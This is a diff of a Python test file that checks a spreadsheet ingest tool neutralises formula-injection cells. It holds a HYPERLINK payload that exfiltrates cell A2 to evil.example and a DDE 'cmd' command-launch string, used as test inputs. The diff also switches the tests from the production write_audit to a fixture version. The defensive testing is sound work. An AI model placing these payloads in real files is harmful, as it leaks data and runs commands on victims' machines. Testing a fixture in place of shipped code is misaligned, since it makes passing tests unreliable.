@@ -10,9 +10,9 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from ingest.audit import write_audit
 from ingest.cells import FORMULA_TRIGGERS, safe_cell
 from ingest.reports.catalog import CATALOG_FILE, write_catalog
+from tests.fixtures.audit import write_audit_json
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
 HOSTILE_VALUES = [HOSTILE, "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)", "\t=1", " =1+1", "＝1"]
@@ -82,9 +82,9 @@ def test_audit_cells_are_neutralised_and_a_retry_adds_nothing(file_lake):
         "started_at": "2026-01-01T00:00:00+00:00",
     }
     run = {"run_id": "r-1", "destination": file_lake, "results": [result]}
-    summary = write_audit(run)
+    summary = write_audit_json(run)
     assert summary["audit_rows_added"] == 1
-    assert write_audit(run)["audit_rows_added"] == 0  # the neutralised row is found again
+    assert write_audit_json(run)["audit_rows_added"] == 0  # the neutralised row is found again
     with Path(summary["audit_path"]).open(newline="", encoding="utf-8") as handle:
         (row,) = list(csv.DictReader(handle))
     assert row["error"] == "'" + HOSTILE and row["watermark_before"] == "'=1+2"
